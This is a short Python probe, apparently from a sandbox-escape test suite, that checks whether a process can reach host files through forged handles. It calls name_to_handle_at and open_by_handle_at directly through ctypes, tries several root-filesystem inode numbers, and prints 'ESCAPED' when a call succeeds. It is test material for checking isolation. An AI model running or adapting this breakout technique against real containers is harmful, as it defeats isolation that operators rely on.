# NAME: files_by_handle
# ATTEMPTS: open files by handle, past every path check
# DETECT: stdout
import ctypes, errno, json, mmap, os, signal, socket, struct, sys, threading, time
P = json.load(open("params.json"))
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def win(x): print("ESCAPED", x, flush=True)
def attempt(f, *a):
    try: return f(*a)
    except (OSError, ValueError, RuntimeError) as e: print(type(e).__name__, e)
h = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136); m = ctypes.c_int()
for nr in (303, 264):
    if libc.syscall(nr, -100, b"/", h, ctypes.byref(m), 0) == 0: win("name_to_handle_at")
for ino in (2, 3, 5, 12):
    h = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, ino, 0), 136)
    for nr in (304, 265):
        fd = libc.syscall(nr, -100, h, 0)
        if fd > 2 and nr == 304: win(f"open_by_handle_at {ino}")
